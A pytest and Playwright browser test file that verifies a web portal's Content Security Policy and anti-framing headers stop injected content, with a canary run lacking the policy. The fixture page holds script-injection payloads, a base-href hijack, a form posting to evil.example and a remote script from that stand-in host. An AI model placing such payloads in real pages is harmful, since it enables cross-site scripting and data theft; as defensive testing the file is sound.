"""What an injected page part can do in a real browser under our policy: nothing, and the console says so.

Beside it the canary: the same page without the policy does all of it, so the test can fail.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from flask import Flask, Response
from playwright.sync_api import Browser, Page

from portal.web.request.access import everyone
from portal.web.request.pages import Pages
from tests.live import listening
from tests.web.conftest import Build

pytestmark = pytest.mark.browser

INJECTED = """<!doctype html><html lang="en"><title>injected</title><body>
<script src="/ar/our.js"></script>
<script>window.inline = true</script>
<script src="data:text/javascript,window.data_script=true"></script>
<style>p { color: rgb(1, 2, 3) }</style>
<p id="styled" style="margin-top: 77px">words</p>
<img id="image" src="data:image/png;base64,!" onerror="window.handler = true">
<a id="link" href="javascript:window.address = true">link</a>
<iframe src="/ar/probe-frame" title="frame"></iframe>
<object data="/ar/probe-frame"></object>
<base href="https://evil.example/">
<form id="away" action="https://evil.example/take" method="post"><input name="a" value="b"></form>
<script src="https://evil.example/x.js"></script>
</body></html>"""
OURS = """
window.ours = [];
const attempt = (name, act) => { try { act(); window.ours.push(name) } catch {} };
attempt('eval', () => eval('1'));
attempt('function', () => new Function('return 1')());
attempt('html', () => { document.createElement('p').innerHTML = '<b>x</b>' });
"""
"""A script of our own that was talked into running a stranger's text."""

pages = Pages("injected", __name__)


@pages.get("/injected", gate=everyone)
def injected() -> str:
    return INJECTED


@pages.get("/probe-frame", gate=everyone)
def framed() -> str:
    return "<!doctype html><title>framed</title><p>framed</p>"


@pages.get("/our.js", gate=everyone)
def ours() -> Response:
    return Response(OURS, content_type="text/javascript; charset=utf-8")


@pytest.fixture
def app(build: Build) -> Flask:
    app = build()
    app.register_blueprint(pages)
    return app


@pytest.fixture
def guarded(app: Flask) -> Iterator[str]:
    with listening(app) as url:
        yield url


@pytest.fixture
def unguarded(app: Flask) -> Iterator[str]:
    @app.after_request
    def strip(response: Response) -> Response:
        for name in ("Content-Security-Policy", "X-Content-Type-Options", "Cross-Origin-Resource-Policy"):
            response.headers[name] = ""
            del response.headers[name]
        return response

    # What is registered last runs first, and our own headers would come after it.
    handlers = app.after_request_funcs[None]
    handlers.insert(0, handlers.pop())
    with listening(app) as url:
        yield url


def visit(browser: Browser, url: str) -> tuple[Page, list[str]]:
    page = browser.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.foreign = true"))
    page.goto(f"{url}/ar/injected")
    page.locator("#link").evaluate("link => link.click()")
    return page, said


RAN = """() => {
  const ran = ['inline', 'data_script', 'handler', 'address', 'foreign'].filter(name => window[name]);
  ran.push(...window.ours);
  const styled = getComputedStyle(document.getElementById('styled'));
  if (styled.color === 'rgb(1, 2, 3)') ran.push('sheet');
  if (styled.marginTop === '77px') ran.push('attribute');
  if (document.baseURI.startsWith('https://evil')) ran.push('base');
  return ran;
}"""


def frames(page: Page) -> list[str]:
    return [frame.url for frame in page.frames[1:] if frame.url.endswith("/probe-frame")]


def test_what_is_injected_does_nothing_and_the_console_reports_it(browser: Browser, guarded: str) -> None:
    page, said = visit(browser, guarded)
    assert page.evaluate(RAN) == []
    assert all("framed" not in frame.content() for frame in page.frames[1:])
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.locator("#away").evaluate("form => form.submit()")
    assert page.url == f"{guarded}/ar/injected"
    told = "\n".join(said)
    for directive in ("script-src", "style-src", "img-src", "base-uri"):
        assert directive in told, directive
    assert "default-src" in told, "frames and objects fall back to it"
    page.close()


def test_the_canary_without_the_policy_does_all_of_it(browser: Browser, unguarded: str) -> None:
    page, _ = visit(browser, unguarded)
    page.wait_for_load_state("networkidle")
    ran = set(page.evaluate(RAN))
    assert {"inline", "data_script", "handler", "address", "foreign"} <= ran
    assert {"eval", "function", "html", "sheet", "attribute", "base"} <= ran
    assert frames(page)
    page.locator("#away").evaluate("form => form.submit()")
    page.wait_for_url("https://evil.example/take")
    page.close()


def shown_around(browser: Browser, url: str) -> list[str]:
    """What somebody else's page shows of ours in a frame."""
    stranger = Flask("stranger")
    stranger.add_url_rule("/", view_func=lambda: f'<iframe title="f" src="{url}/ar/probe-frame"></iframe>')
    page = browser.new_page()
    with listening(stranger) as elsewhere:
        page.goto(elsewhere, wait_until="networkidle")
        seen = [frame.content() for frame in page.frames[1:]]
    page.close()
    return seen


def test_nobody_may_frame_us(browser: Browser, guarded: str) -> None:
    assert not any("framed" in content for content in shown_around(browser, guarded))


def test_the_canary_may_be_framed(browser: Browser, unguarded: str) -> None:
    assert any("framed" in content for content in shown_around(browser, unguarded))
